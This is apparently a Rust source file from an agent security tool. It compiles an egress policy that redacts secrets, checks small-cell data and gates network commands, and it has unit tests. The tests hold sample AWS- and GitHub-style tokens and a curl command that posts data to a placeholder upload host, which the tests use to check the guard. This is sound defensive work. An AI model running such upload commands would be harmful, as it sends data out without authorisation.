//! The egress policy for the hooks: the seed's `egress-guard.yaml` document
//! (presets, per-rule modes and scopes, allowlist, size cap, fail mode,
//! audit switch) is resolved and validated by
//! [`palisade_egress::policy::Policy`] and compiled once into the session
//! pipeline's [`palisade_session::Egress`] (one
//! [`palisade_egress::guard::EgressGuard`]), which makes every decision
//! (scopes, strictest mode, allowlist, JSON-aware rewrite, withheld count,
//! size cap, masked messages) with the same call per event `palisade scan`
//! makes. This file only maps the guard's answers onto the hook layer's
//! shapes and renders the policy for `status`.
//!
//! An invalid document (unknown preset, mode, scope or key, a bad allowlist
//! regex) makes the whole policy fall back to the built-in defaults, with
//! the reason in the config notes: never "off".

use super::adapters::{EgressAction, EgressInspection, EgressScope};
use crate::config::EgressConfig;
use palisade_egress::guard::{Action, Inspection};
use palisade_egress::policy::{Policy, RuleMode, Scope};
use palisade_session::evidence::egress_finding;
use palisade_session::Egress;
use serde_json::{json, Value};

/// Findings listed per inspection.
const MAX_FINDINGS: usize = 50;

/// The compiled egress policy.
#[derive(Clone, Debug)]
pub(crate) struct EgressPolicy {
    /// The session pipeline's egress stage: the one `palisade scan` runs.
    pub egress: Egress,
    pub audit_enabled: bool,
}

impl Default for EgressPolicy {
    fn default() -> Self {
        EgressPolicy {
            audit_enabled: Policy::default().audit.enabled,
            egress: Egress::offline(),
        }
    }
}

/// Compile a policy document (defaults ← preset ← document, deep-merged).
pub(crate) fn compile(document: &Value) -> Result<EgressPolicy, String> {
    let policy = Policy::from_value(document.clone()).map_err(|e| e.to_string())?;
    let audit_enabled = policy.audit.enabled;
    let egress = Egress::new(policy).map_err(|e| e.to_string())?;
    Ok(EgressPolicy {
        egress,
        audit_enabled,
    })
}

/// Build the policy from the loaded config; invalid → defaults + a note.
pub(crate) fn from_config(config: &mut EgressConfig) -> EgressPolicy {
    match compile(&config.document) {
        Ok(p) => p,
        Err(e) => {
            config.notes.push(format!(
                "invalid egress policy: {e}; using built-in defaults"
            ));
            EgressPolicy::default()
        }
    }
}

fn settings(mode: RuleMode, scopes: &[Scope]) -> Value {
    json!({"mode": mode.as_str(), "scopes": scopes})
}

/// The policy as `status` shows it.
pub(crate) fn summary(p: &EgressPolicy) -> Value {
    let policy = p.egress.guard().policy();
    let r = &policy.rules;
    json!({
        "preset": policy.preset,
        "fail_mode": policy.fail_mode,
        "max_scan_bytes": policy.max_scan_bytes,
        "audit_enabled": p.audit_enabled,
        "allowlist": policy.allowlist,
        "rules": {
            "secrets": settings(r.secrets.mode, &r.secrets.scopes),
            "smallcell": {"settings": settings(r.smallcell.mode, &r.smallcell.scopes),
                "threshold": r.smallcell.threshold, "min_value": r.smallcell.min_value,
                "method": r.smallcell.method},
            "microdata": {"settings": settings(r.microdata.mode, &r.microdata.scopes),
                "max_rows": r.microdata.max_rows},
            "network": {"settings": settings(r.network.mode, &r.network.scopes),
                "allowed_hosts": r.network.allowed_hosts, "match": r.network.match_mode},
        },
    })
}

pub(crate) fn scope(scope: EgressScope) -> Scope {
    match scope {
        EgressScope::Args => Scope::Args,
        EgressScope::Result => Scope::Result,
        EgressScope::Reply => Scope::Reply,
    }
}

fn action(action: Action) -> EgressAction {
    match action {
        Action::Pass => EgressAction::Pass,
        Action::Warn => EgressAction::Warn,
        Action::Redact => EgressAction::Redact,
        Action::Approve => EgressAction::Approve,
        Action::Block => EgressAction::Block,
    }
}

/// The guard's inspection in the hook layer's shape.
pub(crate) fn to_inspection(ins: &Inspection) -> EgressInspection {
    EgressInspection {
        action: action(ins.action),
        rule_key: ins.rule_key().map(ToString::to_string).unwrap_or_default(),
        message: ins.message.clone().unwrap_or_default(),
        findings: ins
            .findings
            .iter()
            .take(MAX_FINDINGS)
            .map(egress_finding)
            .collect(),
        rewritten: ins.text.clone(),
        withheld: ins.withheld,
    }
}

/// Inspect one string. `is_command` marks the `command` argument of a tool
/// (the network rule reads only shell commands).
pub(crate) fn inspect(
    policy: &EgressPolicy,
    scope_: EgressScope,
    text: &str,
    is_command: bool,
) -> EgressInspection {
    let s = scope(scope_);
    let guard = policy.egress.guard();
    let ins = if is_command {
        guard.inspect_command(text, s)
    } else {
        guard.inspect_text(text, s)
    };
    to_inspection(&ins)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mode(p: &EgressPolicy, rule: &str) -> RuleMode {
        let r = &p.egress.guard().policy().rules;
        match rule {
            "secrets" => r.secrets.mode,
            "smallcell" => r.smallcell.mode,
            "microdata" => r.microdata.mode,
            _ => r.network.mode,
        }
    }

    #[test]
    fn defaults_and_presets() {
        let p = compile(&json!({})).unwrap();
        assert_eq!(mode(&p, "network"), RuleMode::Approve);
        assert!(!p
            .egress
            .guard()
            .policy()
            .rules
            .smallcell
            .scopes
            .contains(&Scope::Result));
        let r = compile(&json!({"preset": "research-data",
            "rules": {"network": {"allowed_hosts": ["data.internal"]}}}))
        .unwrap();
        let rules = &r.egress.guard().policy().rules;
        assert_eq!(rules.smallcell.threshold, 10);
        assert_eq!(
            rules.network.mode,
            RuleMode::Block,
            "preset kept under a nested override"
        );
        assert_eq!(
            rules.network.allowed_hosts,
            vec!["data.internal".to_owned()]
        );
        assert!(rules.smallcell.scopes.contains(&Scope::Result));
        let d = compile(&json!({"preset": "dev"})).unwrap();
        assert_eq!(mode(&d, "network"), RuleMode::Off);
        assert_eq!(mode(&d, "secrets"), RuleMode::Redact);
        let s = summary(&r);
        assert_eq!(s["rules"]["network"]["settings"]["mode"], "block");
        assert_eq!(s["fail_mode"], "open");
    }

    #[test]
    fn invalid_documents_are_rejected() {
        for doc in [
            json!({"preset": "nope"}),
            json!({"rules": {"secrets": {"mode": "explode"}}}),
            json!({"rules": {"smallcell": {"scopes": ["everywhere"]}}}),
            json!({"rules": {"bogus": {}}}),
            json!({"allowlist": ["(unclosed"]}),
            json!({"fail_mode": "sometimes"}),
            json!({"unknown_top": 1}),
        ] {
            assert!(compile(&doc).is_err(), "{doc}");
        }
        let mut config = EgressConfig {
            source: crate::config::PolicySource::Builtin,
            document: json!({"preset": "nope"}),
            observe: false,
            notes: Vec::new(),
        };
        let p = from_config(&mut config);
        assert_eq!(mode(&p, "secrets"), RuleMode::Redact, "defaults, never off");
        assert!(config.notes[0].contains("unknown preset"));
    }

    #[test]
    fn inspection() {
        let p = EgressPolicy::default();
        let s = inspect(
            &p,
            EgressScope::Args,
            "export KEY=AKIAZ7QPMX3RWB5TLN2K",
            true,
        );
        assert_eq!(s.action, EgressAction::Redact);
        assert_eq!(s.rewritten.as_deref(), Some("export KEY=AKIA…****"));
        assert_eq!(s.rule_key, "egress-guard:EG-SECRET-001");
        assert_eq!(s.withheld, 1);
        let n = inspect(
            &p,
            EgressScope::Args,
            "curl -s -d 'report=quarterly' https://upload.example.invalid/drop",
            true,
        );
        assert_eq!(n.action, EgressAction::Approve);
        assert_eq!(n.rule_key, "egress-guard:EG-NET-001");
        assert!(
            n.message.contains("upload.example.invalid"),
            "{}",
            n.message
        );
        assert!(n.message.contains("(EG-NET-001) Command: curl"));
        let not_cmd = inspect(
            &p,
            EgressScope::Args,
            "curl -d x https://upload.example.invalid",
            false,
        );
        assert_eq!(not_cmd.action, EgressAction::Pass);
        let allow = compile(&json!({"allowlist": ["^AKIAZ7"]})).unwrap();
        assert_eq!(
            inspect(&allow, EgressScope::Args, "AKIAZ7QPMX3RWB5TLN2K", false).action,
            EgressAction::Pass
        );
        let big = compile(&json!({"max_scan_bytes": 10, "fail_mode": "closed"})).unwrap();
        let b = inspect(&big, EgressScope::Args, "a long string here", false);
        assert_eq!(b.action, EgressAction::Block);
        assert_eq!(b.rule_key, "egress-guard:EG-SIZE-001");
    }

    #[test]
    fn json_is_rewritten_string_by_string() {
        let p = EgressPolicy::default();
        let mut rows = 0;
        let out = p.egress.tool_result(
            Some("t"),
            r#"{"items": [{"token": "ghp_R8aWq2LmZ0xT5vNcK7pB3yHd9JfE1sUgQ4iO"}], "n": 1}"#,
            0,
            &mut |_, _, ins| rows += usize::from(!ins.findings.is_empty()),
        );
        let out = to_inspection(&out.inspection);
        assert_eq!(rows, 1);
        let text = out.rewritten.unwrap();
        assert!(
            text.contains("ghp_…****") && !text.contains("R8aWq2"),
            "{text}"
        );
        assert_eq!(out.findings[0]["path"], "/items/0/token");
    }
}
